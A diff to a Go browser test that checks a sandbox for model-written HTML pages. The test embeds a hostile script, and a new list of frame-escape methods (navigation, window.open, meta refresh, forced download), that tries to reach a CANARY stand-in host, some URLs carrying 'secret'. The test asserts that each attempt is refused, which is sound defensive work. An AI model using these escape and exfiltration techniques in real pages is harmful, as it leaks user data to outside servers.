@@ -224,7 +224,7 @@ const hostileScript = `<!doctype html><title>Page</title>
 <script>
 const results = {}
 const attempt = async (name, act) => {
-  try { results[name] = 'did ' + await act() } catch { results[name] = 'refused' }
+  try { results[name] = 'did ' + await Promise.race([act(), later(1000).then(() => { throw 0 })]) } catch { results[name] = 'refused' }
 }
 const later = (ms) => new Promise((done) => setTimeout(done, ms))
 ;(async () => {
@@ -251,15 +251,21 @@ const later = (ms) => new Promise((done) => setTimeout(done, ms))
   const a = Object.assign(document.createElement('a'), {href: 'CANARY/link', target: '_top', ping: 'CANARY/ping'})
   document.body.append(a)
   a.click()
-  Object.assign(document.createElement('a'), {href: 'CANARY/download', download: 'x'}).click()
-  document.getElementById('away').submit()
-  document.getElementById('home').submit()
-  await later(300)
   parent.postMessage(results, '*')
   await later(100)
-  location.href = 'CANARY/self?secret'
+  document.getElementById('away').submit()
+  document.getElementById('home').submit()
+  await later(100)
+  LEAVE
 })()
 </script>`
+
+// leaves are ways to leave the frame; each ends the page that takes it, by what the browser shows instead.
+var leaves = []string{
+	"location.href = 'CANARY/self?secret'", "open('CANARY/open?secret', '_self')",
+	"Object.assign(document.createElement('a'), {href: 'CANARY/download', download: 'x'}).click()",
+	"document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">'",
+}
 
 // hostilePage: a page that a model wrote runs, and reaches nothing.
 func hostilePage(t *testing.T, b *chromium) {
@@ -274,28 +280,31 @@ func hostilePage(t *testing.T, b *chromium) {
 	p.ask("Hi")
 	p.finished("complete")
 	p.expect(".") // the browser tells of everything that it blocks
-	path := p.makes("html", "Page", strings.NewReplacer("CANARY", canary.URL, "ORIGIN", s.url).Replace(hostileScript))
 	must(call(p, page.AddScriptToEvaluateOnNewDocument.Method, page.AddScriptToEvaluateOnNewDocumentParams{
 		Source: `if (self === top) addEventListener('message', (e) => { window.told = e.data })`}))
-	p.open(path)
-	p.until("window.told")
-	results := get[map[string]string](p, "window.told")
-	if len(results) != 16 {
-		t.Errorf("%d attempts were told of: %v", len(results), results)
-	}
-	for name, result := range results {
-		if result != "refused" && !(name == "popup" && result == "did null") {
-			t.Errorf("%s: %s", name, result)
+	path := ""
+	for _, leave := range leaves {
+		path = p.makes("html", "Page", strings.NewReplacer("CANARY", canary.URL, "ORIGIN", s.url).Replace(strings.Replace(hostileScript, "LEAVE", leave, 1)))
+		p.open(path)
+		p.until("window.told")
+		results := get[map[string]string](p, "window.told")
+		if len(results) != 16 {
+			t.Errorf("%d attempts were told of: %v", len(results), results)
 		}
-	}
-	time.Sleep(time.Second) // for what it tries last
-	if at := get[string](p, "location.pathname"); at != path {
-		t.Errorf("the page is at %s", at)
+		for name, result := range results {
+			if result != "refused" && !(name == "popup" && result == "did null") {
+				t.Errorf("%s: %s", name, result)
+			}
+		}
+		time.Sleep(700 * time.Millisecond) // for what it tries last
+		if at := get[string](p, "location.pathname"); at != path {
+			t.Errorf("the page is at %s", at)
+		}
 	}
 	if n := get[int](p, "fetch('/chats', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.chats.length)"); n != 1 {
 		t.Errorf("%d chats are left", n)
 	}
-	if n := get[int](p, "fetch('/documents', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.documents.length)"); n != 1 {
+	if n := get[int](p, "fetch('/documents', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.documents.length)"); n != len(leaves) {
 		t.Errorf("there are %d documents", n)
 	}
 	if heard.Load() > 0 {
